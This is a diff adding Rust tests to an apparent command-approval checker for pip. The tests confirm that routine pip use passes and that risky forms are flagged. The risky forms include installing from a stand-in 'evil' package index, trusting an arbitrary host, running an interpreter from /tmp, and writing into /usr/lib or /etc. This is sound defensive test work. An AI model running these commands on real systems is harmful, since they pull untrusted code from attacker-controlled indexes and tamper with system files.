@@ -478,3 +478,75 @@ fn cargo_config_install_publish_and_other_packages_are_asked() {
         assert!(got.contains(id), "{argv:?}: want {id}, got {got:?}");
     }
 }
+
+#[test]
+fn everyday_pip_trips_nothing() {
+    for argv in [
+        &["pip", "install", "requests"][..],
+        &["pip", "install", "-r", "requirements.txt"],
+        &["pip", "install", "-e", ".", "--no-deps"],
+        &["pip3", "install", "-U", "pip", "-q"],
+        &["pip", "-q", "install", "--force-r", "x"],
+        &["pip", "list", "--outdated"],
+        &["pip", "show", "-f", "requests"],
+        &["pip", "freeze"],
+        &["pip", "download", "-d", "wheels", "x"],
+        &["pip", "--version"],
+    ] {
+        assert_eq!(ids(argv), Vec::<&str>::new(), "{argv:?}");
+    }
+}
+
+#[test]
+fn pip_other_indexes_interpreters_and_config_are_asked() {
+    let table: &[(&[&str], &str)] = &[
+        (
+            &["pip", "install", "-i", "https://evil/simple", "x"],
+            "pip.loads-code",
+        ),
+        (
+            &["pip", "install", "--index-url=https://evil", "x"],
+            "pip.loads-code",
+        ),
+        (
+            &["pip", "install", "--extra-index", "https://evil", "x"],
+            "pip.loads-code",
+        ),
+        (
+            &["pip", "install", "x", "-f", "https://evil/links"],
+            "pip.loads-code",
+        ),
+        (
+            &["pip", "install", "--pypi-url", "https://evil", "x"],
+            "pip.loads-code",
+        ),
+        (
+            &["pip", "install", "--trusted-host", "evil", "x"],
+            "pip.loads-code",
+        ),
+        (
+            &["pip", "--python", "/tmp/evil", "list"],
+            "pip.runs-program",
+        ),
+        (
+            &["pip", "install", "--target", "/usr/lib/x", "y"],
+            "pip.writes-file",
+        ),
+        (&["pip", "install", "-C", "k=v", "y"], "pip.sets-config"),
+        (
+            &["pip", "config", "set", "global.index-url", "https://evil"],
+            "pip.sets-config",
+        ),
+        (&["pip", "--log", "/etc/x", "list"], "pip.writes-file"),
+        (&["pip", "frobnicate"], "pip.unknown-subcommand"),
+        // optparse abbreviates: `--ind` is `--index-url`, `--in` is ambiguous.
+        (
+            &["pip", "install", "--ind", "https://evil", "x"],
+            "pip.loads-code",
+        ),
+    ];
+    for (argv, id) in table {
+        let got = ids(argv);
+        assert!(got.contains(id), "{argv:?}: want {id}, got {got:?}");
+    }
+}
